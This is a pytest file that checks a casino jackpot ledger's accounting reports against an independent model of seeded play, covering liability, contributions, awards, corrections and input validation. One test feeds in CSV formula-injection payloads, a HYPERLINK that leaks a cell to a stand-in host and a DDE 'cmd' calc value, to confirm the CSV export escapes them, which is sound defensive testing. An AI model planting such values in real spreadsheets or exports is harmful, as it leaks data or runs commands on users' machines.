"""The four reports (issue 27, item 4), on both backends, against a seeded run of play.

Accounting and the auditor rely on these numbers. Each is checked against figures this test
computes itself from the stream it sent: its own meter arithmetic (exact fractions), its own
trigger draws (the same seeded generator, asked for the same ranges), its own gaming days
(EST: New York's 06:00 start is 11:00 UTC, Chicago's 04:00 is 10:00 UTC in March 2026).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import math
import random
from collections import defaultdict
from decimal import Decimal, localcontext
from fractions import Fraction

import pytest
from pg_server import ledger_at, pg_server  # noqa: F401
from test_jackpot_ledger import claim, confirm, contrib, fixed, result
from test_jackpot_time import TIMED, Clock, utc_ms

from jackpot.changes import correct
from jackpot.commands import run
from jackpot.ledger import Ledger, Status
from jackpot.pools import parse_config

TABLES = ("hcm-bj-07", "hcpn-bj-01", "hcy-bj-02")  # hcy: Chicago time, 04:00 gaming days
HITS = {"100% of meter": (["7D", "7D"], "7D"), "10% of meter": (["7S", "7S"], "7S")}
B7, MYSTERY = Fraction(3, 20), Fraction(1, 20)  # $0.75 and 5% of a $5 stake
#: The example config, a faster Mystery: 5% of the stake, must hit by $260.
CONFIG_TEXT = TIMED.replace('contribution = "1.5%"', 'contribution = "5%"').replace(
    'must_hit_by = "$1,000"', 'must_hit_by = "$260"')  # fmt: skip


def gaming_day(table: str | None, utc: int) -> str:
    """EST/CST arithmetic, no time zone library: the day the property's clock says."""
    back = dt.timedelta(hours=10) if table and table.startswith("hcy") else dt.timedelta(hours=11)
    return (dt.datetime.fromtimestamp(utc / 1000, dt.UTC) - back).date().isoformat()


class Model:
    """What the ledger must hold, computed here: deltas of each pool by gaming day, awards,
    contributions, with the Mystery's triggers drawn from a twin of the ledger's generator."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        self.meter = {"blazing_7s": Fraction(1_000_000), "mystery": Fraction(25_000)}
        self.deltas: list[tuple[str, str, Fraction]] = []  # (pool, day, amount)
        self.trigger = self.draw(Fraction(25_000))
        self.awards: dict[str, dict] = {}
        self.contributions: dict[tuple, list] = defaultdict(lambda: [0, 0, Fraction(0)])

    def draw(self, meter: Fraction) -> int:
        low = max(25_000, math.ceil(meter))
        return low + self.rng.randrange(26_000 - low + 1)

    def move(self, pool: str, day: str, amount: Fraction) -> None:
        self.meter[pool] += amount
        self.deltas.append((pool, day, amount))

    def contribution(self, table: str, seq: int, day: str, utc: int, rnd: int, spot: int):
        for pool, rate in (("blazing_7s", B7), ("mystery", MYSTERY)):
            row = self.contributions[(day, table.split("-")[0], table, pool)]
            row[0] += 1
            row[1] += 500
            row[2] += rate * 500
        self.move("blazing_7s", day, B7 * 500)
        if self.meter["mystery"] + MYSTERY * 500 < self.trigger:
            self.move("mystery", day, MYSTERY * 500)
            return
        won = self.trigger
        self.move("mystery", day, MYSTERY * 500 - won + 25_000)
        self.trigger = self.draw(self.meter["mystery"])
        self.awards[f"{table}/{seq}"] = {"pool": "mystery", "amount": won, "day": day,
                                         "offered": utc, "round": rnd, "spot": spot}  # fmt: skip

    def hit(self, table: str, seq: int, day: str, utc: int, line: str, rnd: int) -> int:
        whole = math.floor(self.meter["blazing_7s"])
        won = whole if line == "100% of meter" else math.floor(Fraction(whole) * 10 / 100)
        self.move("blazing_7s", day, Fraction(-won) + (1_000_000 if won == whole else 0))
        self.awards[f"{table}/{seq}"] = {"pool": "blazing_7s", "amount": won, "day": day,
                                         "offered": utc, "round": rnd, "spot": 1}  # fmt: skip
        return won

    def close(self, pool: str, day: str) -> Fraction:
        start = Fraction(1_000_000 if pool == "blazing_7s" else 25_000)
        return start + sum(a for p, d, a in self.deltas if p == pool and d <= day)


def play(location, seed: int = 7) -> tuple[Model, list[str]]:
    """A seeded session: three tables, 20 rounds each, over four gaming days; a correction."""
    rng, model = random.Random(seed), Model(seed + 1)
    ledger_rng = random.Random(seed + 1)
    clock = Clock("2026-03-02T08:00:00")
    utc = utc_ms("2026-03-02T08:00:00")
    seqs = dict.fromkeys(TABLES, 0)
    config = parse_config(CONFIG_TEXT, "timed.toml")
    with Ledger(location, config, clock=clock, randbelow=lambda n: ledger_rng.randrange(n)) as led:

        def send(table: str, make, *args):
            nonlocal utc
            utc += rng.randint(3, 25) * 60_000
            clock.t = utc / 1000
            seqs[table] += 1
            got = led.apply(make(table, seqs[table], *args))
            assert got.status is Status.APPLIED, got.reason
            return got, seqs[table], gaming_day(table, utc)

        for rnd in range(1, 21):
            for table in TABLES:
                for spot in range(1, rng.randint(1, 3) + 1):
                    _, seq, day = send(table, contrib, rnd, spot)
                    model.contribution(table, seq, day, utc, rnd, spot)
                line = rng.choice([None] * 6 + ["100% of meter", "10% of meter"])
                cards, up = HITS.get(line, (["KH", "5C"], "9D"))
                send(table, result, rnd, cards, up, line)
                if line is None:
                    continue
                got, seq, day = send(table, claim, rnd, cards, up, line)
                assert got.awards[0].amount == model.hit(table, seq, day, utc, line, rnd)
                if rng.random() < 0.8:  # the dealer confirms most hand pays
                    send(table, confirm, got.awards[0])
                    model.awards[f"{table}/{seq}"]["committed"] = utc
            if rnd == 10:  # an audited correction, on the controller's own (New York) day
                utc += 60_000
                clock.t = utc / 1000
                correct(led, "blazing_7s", Fraction(10_000), "J. Smith", "M. Jones",
                        "meter glass repaired, $100 short since 2026-02-28")  # fmt: skip
                model.move("blazing_7s", gaming_day(None, utc), Fraction(10_000))
        days = sorted({d for _, d, _ in model.deltas})
    return model, days


def report(capsys, *argv: str) -> tuple[int, list[dict], str]:
    status = run(["report", *map(str, argv)])
    out, err = capsys.readouterr()
    if status != 0 or ("--format" in argv and "json" in argv):
        return status, (json.loads(out)["rows"] if status == 0 else []), err
    return status, list(csv.DictReader(io.StringIO(out))), err


def cents(value: Fraction, places: int = 0) -> str:
    """An exact amount as the reports must write it, by decimal arithmetic: cents ``25007.5``,
    dollars (``places=2``) ``250.075`` or ``100.00``."""
    with localcontext() as ctx:
        ctx.prec = 60
        text = format(Decimal(value.numerator) / Decimal(value.denominator), "f")
    whole, _, frac = text.partition(".")
    frac = frac.rstrip("0").ljust(places, "0")
    return f"{whole}.{frac}" if frac else whole


def test_the_reports_tie_to_an_independent_count_of_the_play(ledger_at, capsys):  # noqa: F811
    location = ledger_at()
    model, days = play(location)
    assert len(days) >= 3 and any(a["pool"] == "mystery" for a in model.awards.values())
    # liability: per pool and gaming day close, the meter, reset, liability, hits and wins
    status, rows, err = report(capsys, "liability", "--ledger", location)
    assert status == 0, err
    assert [(r["gaming_day"], r["pool"]) for r in rows] == [
        (d, p) for d in days for p in ("blazing_7s", "mystery")]  # fmt: skip
    for row in rows:
        pool, day = row["pool"], row["gaming_day"]
        meter = model.close(pool, day)
        reset = 1_000_000 if pool == "blazing_7s" else 25_000
        mine = [a for a in model.awards.values() if a["pool"] == pool]
        assert (row["meter_cents"], row["reset_cents"], row["liability_cents"]) == (
            cents(meter), str(reset), cents(meter - reset)), row  # fmt: skip
        today = [a["amount"] for a in mine if a["day"] == day]
        total = [a["amount"] for a in mine if a["day"] <= day]
        assert (int(row["hits_day"]), row["wins_day_cents"]) == (len(today), str(sum(today)))
        assert (int(row["hits_total"]), row["wins_total_cents"]) == (len(total), str(sum(total)))
        assert row["status"] == "active" and row["meter_dollars"] == cents(meter / 100, 2)
        assert row["liability_dollars"] == cents((meter - reset) / 100, 2)
    # contributions: per gaming day, property, table and pool
    status, rows, err = report(capsys, "contributions", "--ledger", location)
    assert status == 0, err
    assert list(rows[0])[:7] == ["gaming_day", "property", "table", "pool", "count",
                                 "stake_cents", "contributed_cents"]  # fmt: skip
    got = {(r["gaming_day"], r["property"], r["table"], r["pool"]):
           (int(r["count"]), r["stake_cents"], r["contributed_cents"]) for r in rows}  # fmt: skip
    assert got == {k: (n, str(s), cents(c)) for k, (n, s, c) in model.contributions.items()}
    day = days[1]
    status, rows, err = report(capsys, "contributions", "--ledger", location, "--day", day,
                               "--pool", "mystery", "--format", "json")  # fmt: skip
    assert status == 0 and {(r["gaming_day"], r["pool"]) for r in rows} == {(day, "mystery")}
    # awards: each with its times
    status, rows, err = report(capsys, "awards", "--ledger", location)
    assert status == 0, err
    assert {r["award_id"] for r in rows} == set(model.awards)
    for row in rows:
        want = model.awards[row["award_id"]]
        offered = dt.datetime.fromtimestamp(want["offered"] / 1000, dt.UTC)
        local = offered - dt.timedelta(hours=6 if row["table"].startswith("hcy") else 5)
        assert (row["pool"], row["amount_cents"], row["gaming_day"]) == (
            want["pool"], str(want["amount"]), want["day"])  # fmt: skip
        assert row["date"] == local.strftime("%Y-%m-%d")
        assert row["time"] == local.strftime("%H:%M:%S")
        assert row["offered_utc"] == offered.strftime("%Y-%m-%dT%H:%M:%S.000Z")
        assert (row["round"], row["spot"]) == (str(want["round"]), str(want["spot"]))
        if "committed" in want:
            committed = dt.datetime.fromtimestamp(want["committed"] / 1000, dt.UTC)
            assert row["state"] == "committed" and row["confirmed_by"].startswith(row["table"])
            assert row["committed_utc"] == committed.strftime("%Y-%m-%dT%H:%M:%S.000Z")
        else:
            assert (row["state"], row["committed_utc"], row["confirmed_by"]) == ("offered", "", "")
    # changes: the first terms and the correction, with both names and the reason
    status, rows, err = report(capsys, "changes", "--ledger", location, "--pool", "blazing_7s")
    assert status == 0, err
    (fix,) = [r for r in rows if r["kind"] == "correction"]
    assert (fix["amount_cents"], fix["amount_dollars"], fix["by"], fix["approved_by"]) == (
        "10000", "100.00", "J. Smith", "M. Jones")  # fmt: skip
    assert "meter glass" in fix["reason"] and fix["term"] == "meter"
    assert Fraction(fix["new"]) - Fraction(fix["old"]) == 10_000
    assert {r["kind"] for r in rows} == {"initial", "correction"}


def test_a_bad_day_an_unknown_pool_or_an_empty_ledger_is_refused(ledger_at, capsys, tmp_path):  # noqa: F811
    location = ledger_at()
    with Ledger(location, parse_config(TIMED, "t.toml"), randbelow=fixed(0)):
        pass
    for argv, words in (
        (["--day", "2026-02-30"], "'2026-02-30' is not a day of the calendar"),
        (["--day", "March 1"], "is not a day like 2026-03-01"),
        (["--from", "2026-03-05", "--to", "2026-03-01"], "is after --to"),
        (["--pool", "mistery"], "no pool 'mistery' in the ledger (pools: blazing_7s, mystery)"),
    ):
        status, _, err = report(capsys, "liability", "--ledger", location, *argv)
        assert status == 2 and words in err and err.count("\n") == 1, err
    empty = ledger_at("empty")
    if isinstance(empty, str):  # PostgreSQL: a database with no ledger in it
        status, _, err = report(capsys, "awards", "--ledger", empty)
        assert status == 2 and "not a jackpot ledger" in err and err.count("\n") == 1, err
    else:
        empty.write_bytes(b"")
        status, _, err = report(capsys, "awards", "--ledger", str(empty))
        assert status == 2 and "no ledger at" in err and err.count("\n") == 1, err
    status, _, err = report(capsys, "awards", "--ledger", str(tmp_path / "nowhere.db"))
    assert status == 2 and "no ledger at" in err


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_money_is_in_cents_and_dollars_exactly(ledger_at, capsys, fmt):  # noqa: F811
    location = ledger_at()
    with Ledger(location, parse_config(TIMED, "t.toml"), randbelow=fixed(70_000)) as led:
        led.apply(contrib(TABLES[0], 1, 1))
    status, rows, err = report(capsys, "liability", "--ledger", location, "--pool", "mystery",
                               "--format", fmt)  # fmt: skip
    assert status == 0, err
    (row,) = rows
    assert (row["meter_cents"], row["meter_dollars"]) == ("25007.5", "250.075")
    assert (row["liability_cents"], row["liability_dollars"]) == ("7.5", "0.075")


def two_days(location) -> tuple[str, str]:
    """A contribution on 2026-03-02 and one on 2026-03-04 (New York gaming days); before the
    second, a Mystery correction with names and a reason a spreadsheet would run."""
    clock = Clock("2026-03-02T15:00:00")
    with Ledger(
        location, parse_config(TIMED, "t.toml"), clock=clock, randbelow=fixed(70_000)
    ) as led:
        led.apply(contrib(TABLES[0], 1, 1))
        clock.t = utc_ms("2026-03-04T15:00:00") / 1000
        correct(led, "mystery", Fraction(-5), '=HYPERLINK("http://x/?"&A1,"ok")', "M. Jones",
                "=1+2 cmd|' /C calc'!A0")  # fmt: skip
        led.apply(contrib(TABLES[0], 2, 2))
    return "2026-03-02", "2026-03-04"


def test_csv_cells_a_spreadsheet_would_run_are_text_and_meters_are_cents(ledger_at, capsys):  # noqa: F811
    """Review finding 9 (CSV formula injection) and the minor one (a meter's old and new in
    cents, not 50015/2): numbers stay numbers, a negative amount included."""
    location = ledger_at()
    two_days(location)
    status, rows, err = report(capsys, "changes", "--ledger", location, "--pool", "mystery")
    assert status == 0, err
    (fix,) = [r for r in rows if r["kind"] == "correction"]
    assert fix["by"] == '\'=HYPERLINK("http://x/?"&A1,"ok")'
    assert fix["reason"] == "'=1+2 cmd|' /C calc'!A0" and fix["approved_by"] == "M. Jones"
    assert (fix["amount_cents"], fix["amount_dollars"]) == ("-5", "-0.05")
    assert (fix["old"], fix["new"]) == ("25007.5", "25002.5")  # a 7.5 cent contribution
    status, rows, err = report(capsys, "changes", "--ledger", location, "--pool", "mystery",
                               "--format", "json")  # fmt: skip
    (fix,) = [r for r in rows if r["kind"] == "correction"]
    assert fix["by"].startswith("=HYPERLINK") and fix["reason"].startswith("=1+2")  # JSON: as is


def test_a_day_outside_the_ledger_is_refused_a_quiet_day_inside_is_empty(ledger_at, capsys):  # noqa: F811
    """Review, minor: a day before the ledger's first row or after its last is exit 2 with one
    line; a gaming day inside its range with no rows is a valid empty report."""
    location = ledger_at()
    first, last = two_days(location)
    for kind in ("liability", "contributions", "awards", "changes"):
        for argv in (["--day", "1999-01-01"], ["--from", "2026-03-05", "--to", "2026-03-09"]):
            status, _, err = report(capsys, kind, "--ledger", location, *argv)
            assert status == 2 and err.count("\n") == 1, (kind, argv, err)
            assert (f"{' '.join(argv)} is outside the ledger: its gaming days run from {first} "
                    f"to {last}") in err  # fmt: skip
    status, rows, err = report(capsys, "contributions", "--ledger", location, "--day", "2026-03-03")
    assert status == 0 and rows == [], err
    status, rows, err = report(capsys, "liability", "--ledger", location, "--from", "2026-03-01",
                               "--to", "2026-03-03")  # fmt: skip
    assert status == 0 and {r["gaming_day"] for r in rows} == {"2026-03-02", "2026-03-03"}


def test_the_liability_report_reads_the_ledger_once_whatever_the_days(ledger_at, monkeypatch):  # noqa: F811
    """Review finding 8: the report is one ordered pass (a year of days costs the same
    queries as one day), with the same closes as the day-by-day replay."""
    from jackpot import reports

    location = ledger_at()
    two_days(location)
    calls = []
    rows = reports.Reader.rows
    monkeypatch.setattr(reports.Reader, "rows", lambda self, *a: calls.append(a) or rows(self, *a))
    with reports.open_reader(location) as reader:
        calls.clear()
        one = reports.liability(reader, "2026-03-02", "2026-03-02")
        few = len(calls)
        calls.clear()
        year = reports.liability(reader, "2026-03-02", "2027-03-01")
        assert len(calls) == few
        assert year.rows[: len(one.rows)] == one.rows and len(year.rows) == 365 * 2
        closes = {(r["gaming_day"], r["pool"]): r["meter_cents"] for r in year.rows}
    assert (closes[("2026-03-02", "mystery")], closes[("2026-03-03", "mystery")]) == (
        "25007.5", "25007.5")  # fmt: skip
    assert closes[("2026-03-04", "mystery")] == closes[("2027-03-01", "mystery")] == "25010"
